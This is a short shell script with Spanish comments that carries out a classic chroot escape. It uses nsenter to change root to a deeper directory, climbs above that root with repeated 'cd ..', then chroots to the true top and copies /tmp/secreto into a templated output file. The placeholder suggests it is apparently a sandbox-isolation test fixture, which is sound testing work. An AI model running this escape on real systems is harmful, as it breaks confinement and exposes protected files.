#!/bin/sh
# La fuga de toda la vida: cambiar la raíz a un directorio de más adentro sin moverse de sitio. Quien está
# por encima de su raíz puede subir hasta arriba.
mkdir -p /hoyo
exec nsenter --root=/hoyo ./bin/busybox sh -c '
    for i in 1 2 3 4; do cd -P ..; done
    exec ./bin/busybox chroot . sh -c "cat /tmp/secreto >/tmp/{{nombre}}; exec sleep 1000"
'
